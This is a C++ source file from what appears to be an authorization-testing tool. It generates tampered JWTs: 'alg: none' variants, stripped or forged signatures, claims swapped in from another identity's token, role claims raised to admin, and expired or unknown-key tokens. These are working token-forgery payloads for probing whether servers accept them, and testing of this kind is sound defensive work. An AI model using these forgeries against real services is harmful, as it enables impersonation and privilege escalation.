#include "plan/tamper.hpp"

#include <cctype>
#include <ctime>

#include <nlohmann/json.hpp>

#include "util/base64.hpp"

namespace authdiff::plan {

namespace {

using nlohmann::json;

struct Jwt {
  json header, payload;
  std::string signature;  // as sent (base64url)
};

std::optional<Jwt> parse_jwt(std::string_view token) {
  const auto first = token.find('.');
  if (first == std::string_view::npos) return std::nullopt;
  const auto second = token.find('.', first + 1);
  if (second == std::string_view::npos || token.find('.', second + 1) != std::string_view::npos)
    return std::nullopt;
  const auto header = base64url_decode(token.substr(0, first));
  const auto payload = base64url_decode(token.substr(first + 1, second - first - 1));
  if (!header || !payload) return std::nullopt;
  Jwt out;
  out.header = json::parse(*header, nullptr, false);
  out.payload = json::parse(*payload, nullptr, false);
  if (!out.header.is_object() || !out.header.contains("alg") || !out.payload.is_object())
    return std::nullopt;
  out.signature = std::string(token.substr(second + 1));
  return out;
}

std::string encode(const Jwt& t) {
  return base64url_encode(t.header.dump()) + "." + base64url_encode(t.payload.dump()) + "." +
         t.signature;
}

// Claims that say who the caller is.
constexpr const char* k_identity_claims[] = {
    "sub",  "uid",   "user_id", "userId",     "id",          "username", "preferred_username",
    "name", "email", "upn",     "employeeId", "employee_id", "tenant",   "tenant_id",
    "tid",  "org_id"};

// Claims that say what the caller may do, and the value that raises them.
void raise_privileges(json& claims) {
  bool changed = false;
  for (const char* key : {"role", "Role", "userRole", "user_role"}) {
    if (claims.contains(key)) {
      claims[key] = "admin";
      changed = true;
    }
  }
  for (const char* key : {"roles", "groups", "authorities"}) {
    if (claims.contains(key) && claims[key].is_array()) {
      claims[key].push_back("admin");
      claims[key].push_back("ROLE_ADMIN");
      changed = true;
    }
  }
  for (const char* key : {"admin", "is_admin", "isAdmin", "superuser"}) {
    if (claims.contains(key)) {
      claims[key] = true;
      changed = true;
    }
  }
  if (claims.contains("scope") && claims["scope"].is_string()) {
    claims["scope"] = claims["scope"].get<std::string>() + " admin";
    changed = true;
  }
  if (!changed) claims["role"] = "admin";
}

std::string swap_case(std::string_view s) {
  std::string out(s);
  for (char& c : out) {
    const auto u = static_cast<unsigned char>(c);
    c = static_cast<char>(std::isupper(u) ? std::tolower(u) : std::toupper(u));
  }
  return out;
}

std::optional<std::string> apply(std::string_view token, std::string_view rule,
                                 std::string_view other) {
  const TamperRule* r = find_tamper_rule(rule);
  if (r == nullptr) return std::nullopt;
  if (!r->jwt) {
    if (rule == "truncated") {
      if (token.size() < 8) return std::nullopt;
      return std::string(
          token.substr(0, token.size() - std::max<std::size_t>(1, token.size() / 4)));
    }
    if (rule == "case-swapped") {
      std::string swapped = swap_case(token);
      if (swapped == token) return std::nullopt;
      return swapped;
    }
    return std::nullopt;
  }
  auto t = parse_jwt(token);
  if (!t) return std::nullopt;
  if (rule.starts_with("alg-none:")) {
    t->header["alg"] = std::string(rule.substr(9));
    t->signature.clear();
  } else if (rule == "alg-none-claims-of" || rule == "claims-of") {
    const auto o = parse_jwt(other);
    if (!o) return std::nullopt;
    bool copied = false;
    for (const char* key : k_identity_claims) {
      if (o->payload.contains(key) && o->payload[key] != t->payload[key]) {
        t->payload[key] = o->payload[key];
        copied = true;
      }
    }
    if (!copied) return std::nullopt;
    if (rule == "alg-none-claims-of") {
      t->header["alg"] = "none";
      t->signature.clear();
    }
  } else if (rule == "strip-signature") {
    t->signature.clear();
  } else if (rule == "foreign-signature") {
    // A signature no key of the target made: the same length, different bytes.
    std::string sig = t->signature;
    for (std::size_t i = 0; i < sig.size(); ++i) sig[i] = sig[i] == 'A' ? 'B' : 'A';
    if (sig.empty()) sig = base64url_encode(std::string(32, '\x5a'));
    t->signature = sig;
  } else if (rule == "role-admin") {
    raise_privileges(t->payload);
  } else if (rule == "expired") {
    const auto now = static_cast<long long>(std::time(nullptr));
    t->payload["exp"] = now - 86400;
    if (t->payload.contains("iat")) t->payload["iat"] = now - 90000;
    if (t->payload.contains("nbf")) t->payload["nbf"] = now - 90000;
  } else if (rule == "kid-nowhere") {
    t->header["kid"] = "authdiff-no-such-key";
  } else {
    return std::nullopt;
  }
  return encode(*t);
}

}  // namespace

bool looks_like_jwt(std::string_view token) {
  return parse_jwt(token).has_value();
}

const std::vector<TamperRule>& tamper_rules() {
  static const std::vector<TamperRule> rules = {
      {"alg-none:none", "alg: none, no signature", true, false, true},
      {"alg-none:None", "alg: None, no signature", true, false, true},
      {"alg-none:NONE", "alg: NONE, no signature", true, false, true},
      {"alg-none:nOnE", "alg: nOnE, no signature", true, false, true},
      {"alg-none-claims-of", "alg: none with another identity's claims", true, true, true},
      {"strip-signature", "signature removed", true, false, false},
      {"foreign-signature", "a signature no key of the target made", true, false, false},
      {"claims-of", "another identity's claims, original signature", true, true, false},
      {"role-admin", "role claims raised to admin, original signature", true, true, false},
      {"expired", "exp a day in the past, original signature", true, false, false},
      {"kid-nowhere", "kid naming a key that does not exist", true, false, false},
      {"truncated", "the last quarter cut off", false, false, false},
      {"case-swapped", "upper and lower case swapped", false, false, false},
  };
  return rules;
}

const TamperRule* find_tamper_rule(std::string_view name) {
  for (const auto& r : tamper_rules()) {
    if (r.name == name) return &r;
  }
  return nullptr;
}

std::optional<std::string> tamper(std::string_view token, std::string_view rule,
                                  std::string_view other) {
  // "JWT eyJ..." / "Bearer eyJ...": tamper with the part after the scheme.
  const auto space = token.rfind(' ');
  const std::string_view prefix = space == std::string_view::npos ? "" : token.substr(0, space + 1);
  const std::string_view value = token.substr(prefix.size());
  const auto other_space = other.rfind(' ');
  const std::string_view other_value =
      other_space == std::string_view::npos ? other : other.substr(other_space + 1);
  auto out = apply(value, rule, other_value);
  if (!out || *out == value) return std::nullopt;  // unchanged is no tampering
  return std::string(prefix) + *out;
}

}  // namespace authdiff::plan
